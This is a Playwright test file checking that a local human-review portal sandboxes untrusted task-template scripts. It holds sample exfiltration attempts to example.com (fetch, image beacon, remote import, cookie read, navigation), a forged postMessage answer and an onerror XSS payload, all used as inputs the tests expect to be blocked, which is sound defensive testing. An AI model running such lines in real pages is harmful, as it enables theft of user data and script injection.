"""Scripts of a template are untrusted and isolated."""

import pytest
from playwright.sync_api import Page, expect

from tests.tools.a2i_local.portal.memory_tasks import MemoryTask, MemoryTasks, StoredBytes

LOADER = '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>'


def open_task(page: Page, portal: str, tasks: MemoryTasks, script: str) -> None:
    html = f'{LOADER}<output id="result">waiting</output><script>{script}</script>'
    tasks.add(MemoryTask("t1", html=html))
    page.goto(f"{portal}/_a2i/portal?worker=ann&task=t1")


def expect_result(page: Page, text: str) -> None:
    expect(page.frame_locator("iframe").locator("#result")).to_have_text(text)


def result_of(expression: str) -> str:
    """A script that tries `expression` and says how it ended."""
    return (
        "const say = (text) => { document.getElementById('result').textContent = text; };"
        f"(async () => {{ try {{ await ({expression}); say('done'); }}"
        " catch (error) { say('failed'); } })();"
    )


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://example.com/steal')",
        "fetch('/_a2i/api/tasks?worker=ann')",
        "fetch('/_a2i/api/tasks/t1/release', {method: 'POST', body: '{}'})",
        "parent.document.title",
        "localStorage.length",
        "document.cookie",
        "import('https://example.com/x.js')",
        "new Promise((go, fail) => { const i = new Image(); i.onload = go; i.onerror = fail;"
        " i.src = 'https://example.com/steal.png'; })",
        "Promise.resolve(open('https://example.com/steal')).then((w) => w.name)",
    ],
)
def test_a_task_reaches_neither_the_network_nor_the_page(
    page: Page, portal: str, tasks: MemoryTasks, attempt: str
) -> None:
    open_task(page, portal, tasks, result_of(attempt))
    expect_result(page, "failed")


def test_a_task_may_read_the_objects_it_was_granted(
    page: Page, portal: str, tasks: MemoryTasks
) -> None:
    tasks.objects["doc"] = StoredBytes(b"{}", "application/json")
    open_task(page, portal, tasks, result_of("fetch('/_a2i/s3/doc').then((r) => r.json())"))
    expect_result(page, "done")


def test_a_task_cannot_navigate_itself_away(page: Page, portal: str, tasks: MemoryTasks) -> None:
    open_task(page, portal, tasks, "location = 'https://example.com/?stolen'")
    expect(page.get_by_role("button", name="Release")).to_be_visible()
    page.wait_for_timeout(500)
    assert all("example.com" not in frame.url for frame in page.frames)


def test_a_blocked_resource_is_named_to_the_reviewer(
    page: Page, portal: str, tasks: MemoryTasks
) -> None:
    html = f'{LOADER}<crowd-form></crowd-form><script src="https://cdn.example/lib.js"></script>'
    tasks.add(MemoryTask("t1", html=html))
    page.goto(f"{portal}/_a2i/portal?worker=ann&task=t1")
    expect(
        page.get_by_text("nothing leaves this machine: https://cdn.example/lib.js")
    ).to_be_visible()


def test_a_link_to_a_granted_object_opens_beside_the_task(
    page: Page, portal: str, tasks: MemoryTasks
) -> None:
    tasks.objects["doc"] = StoredBytes(b"The document", "text/plain")
    html = f'{LOADER}<a href="/_a2i/s3/doc" target="_blank">Document</a>'
    tasks.add(MemoryTask("t1", html=html))
    page.goto(f"{portal}/_a2i/portal?worker=ann&task=t1")
    expect(page.frame_locator("iframe").get_by_role("note")).to_be_visible()
    with page.context.expect_page() as opened:
        page.frame_locator("iframe").get_by_role("link", name="Document").click()
    expect(opened.value.get_by_text("The document")).to_be_visible()


def test_a_link_that_leads_away_is_named_instead(
    page: Page, portal: str, tasks: MemoryTasks
) -> None:
    html = f'{LOADER}<a href="https://example.com/more">More</a>'
    tasks.add(MemoryTask("t1", html=html))
    page.goto(f"{portal}/_a2i/portal?worker=ann&task=t1")
    expect(page.frame_locator("iframe").get_by_role("note")).to_be_visible()
    page.frame_locator("iframe").get_by_role("link", name="More").click()
    expect(
        page.get_by_text("nothing leaves this machine: https://example.com/more")
    ).to_be_visible()
    expect(page.frame_locator("iframe").get_by_role("link", name="More")).to_be_visible()


def test_messages_of_other_windows_are_no_answers(
    page: Page, portal: str, tasks: MemoryTasks
) -> None:
    open_task(page, portal, tasks, "")
    expect(page.frame_locator("iframe").locator("#result")).to_be_visible()
    page.evaluate("postMessage({type: 'a2i:answer', answerContent: {forged: true}}, '*')")
    page.wait_for_timeout(300)
    assert tasks.answers["t1"] == {}


def test_hostile_titles_show_as_text(page: Page, portal: str, tasks: MemoryTasks) -> None:
    hostile = "<img src=x onerror=\"document.title='run'\">"
    tasks.add(MemoryTask("t1", title=hostile, description=hostile, human_loop_name=hostile))
    page.goto(f"{portal}/_a2i/portal?worker=ann")
    expect(page.get_by_role("heading", name=hostile)).to_be_visible()
    assert page.title() == "Reviews"
